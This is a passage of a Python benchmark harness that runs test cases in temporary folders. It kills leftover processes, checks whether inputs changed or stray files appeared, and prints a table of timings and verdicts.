        try:
            run = c.run(tmp)
        except Exception as exc:  # noqa: BLE001 - a broken case is a line, not the end
            run = Run("bench error", 0.0, note=f"{type(exc).__name__}: {exc}")
        procs = [p for p in running_on(tmp) if not wait_for(lambda p=p: not alive(p), 10)]
        for pid in procs:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        inputs, before = _MARKED.pop(str(tmp), ({}, set()))
        same = "-" if not inputs else "same" if _snapshot(tmp / "in") == inputs else "CHANGED"
        return Line(c, run, same, _stray_files(tmp, before), procs)


# The inputs of each case's folder, as its first command found them, and every file there then.
_MARKED: dict[str, tuple[dict[str, Any], set[str]]] = {}


def _mark_inputs(tmp: Path) -> None:
    if str(tmp) not in _MARKED:
        names = set()
        for dirpath, _dirs, filenames in os.walk(tmp):
            names.update(os.path.relpath(os.path.join(dirpath, n), tmp) for n in filenames)
        _MARKED[str(tmp)] = (_snapshot(tmp / "in"), names)


HEADER = ("group", "case", "how", "exit", "wall s", "cpu s", "input", "temps", "procs", "verdict")
WIDTHS = (14, 62, 6, 14, 6, 6, 7, 5, 5, 0)


def _row(cells: tuple[str, ...]) -> str:
    return "  ".join(c.ljust(w) if w else c for c, w in zip(cells, WIDTHS)).rstrip()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("-k", default="", help="only the cases whose group or name holds this")
    parser.add_argument("--largest", action="store_true", help="also the largest accepted build")
    a = parser.parse_args()
    if not sys.platform.startswith("linux"):
        print("reads /proc: Linux only", file=sys.stderr)
        return 2
    chosen = [
        c
        for c in CASES
        if (a.k.lower() in f"{c.group} {c.name}".lower()) and (a.largest or not c.opt_in)
    ]
    print(_row(HEADER))
    print(_row(tuple("-" * max(len(h), 4) for h in HEADER)))
    failed, start = 0, time.perf_counter()
    for c in chosen:
        line = run_case(c)
        run = line.run
        verdict = line.verdict()
        failed += verdict != "ok"
        cells = (
            c.group,
            c.name,
            c.how,
            run.exit,
            f"{run.wall_s:.1f}",
            "-" if run.cpu_s is None else f"{run.cpu_s:.1f}",
            line.input_same,
            "none" if not line.temps else f"{len(line.temps)}",
            "none" if not line.procs else f"{len(line.procs)}",
            verdict,
        )
        print(_row(cells), flush=True)
    total = time.perf_counter() - start
    print(f"\n{len(chosen)} cases, {len(chosen) - failed} ok, {failed} failed; {total:.0f} s wall")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
